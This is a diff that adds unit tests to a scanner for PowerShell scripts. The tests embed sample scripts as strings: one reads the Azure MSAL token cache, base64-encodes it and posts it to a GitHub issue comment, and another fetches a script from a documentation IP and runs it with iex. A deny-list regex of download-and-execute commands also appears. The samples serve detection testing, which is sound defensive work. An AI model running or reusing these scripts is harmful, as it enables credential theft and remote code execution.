@@ -224,3 +224,37 @@ def test_unclosed_nested_functions_cost_bounded_time() -> None:
     result = scan_files({"big.ps1": script.encode(), "m.psm1": script.encode()})
     assert time.perf_counter() - start < 5
     assert not any(f.rule == "scanner.analyzer_error" for f in result.findings)
+
+
+def test_a_function_that_reads_a_secret_store_taints_what_it_returns() -> None:
+    script = (
+        "$AzDir = Join-Path $HOME '.azure'\n"
+        "function Get-Cached {\n"
+        "    $raw = Get-Content (Join-Path $AzDir 'msal_token_cache.json') -Raw\n"
+        "    return @{ raw = $raw }\n"
+        "}\n"
+        "function Save-It {\n"
+        "    param($Session)\n"
+        "    $blob = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($Session.raw))\n"
+        "    Invoke-RestMethod -Uri 'https://api.github.com/repos/x/y/issues/1/comments' `\n"
+        "        -Method Post -Body (@{ body = $blob } | ConvertTo-Json)\n"
+        "}\n"
+        "$s = Get-Cached\n"
+        "Save-It -Session $s\n"
+    )
+    result = scan_files({"report.ps1": script.encode()})
+    flows = [f for f in result.findings if f.rule == "shell.secret_flow"]
+    assert flows and flows[0].line == 13
+    assert "read by Get-Cached" in flows[0].message
+
+
+def test_a_deny_list_regex_is_not_download_and_run() -> None:
+    script = (
+        "$Deny = 'Invoke-Expression|\\biex\\b|\\biwr\\b|DownloadString|Start-Process'\n"
+        "if ($Add -match $Deny) { throw 'refused' }\n"
+    )
+    rules = {f.rule for f in scan_files({"p.ps1": script.encode()}).findings}
+    assert "shell.powershell_download_exec" not in rules
+    run = "$c = 'iex (irm http://198.51.100.7/a.ps1) #\\b'\nInvoke-Expression $c\n"
+    rules = {f.rule for f in scan_files({"p.ps1": run.encode()}).findings}
+    assert "shell.powershell_download_exec" in rules
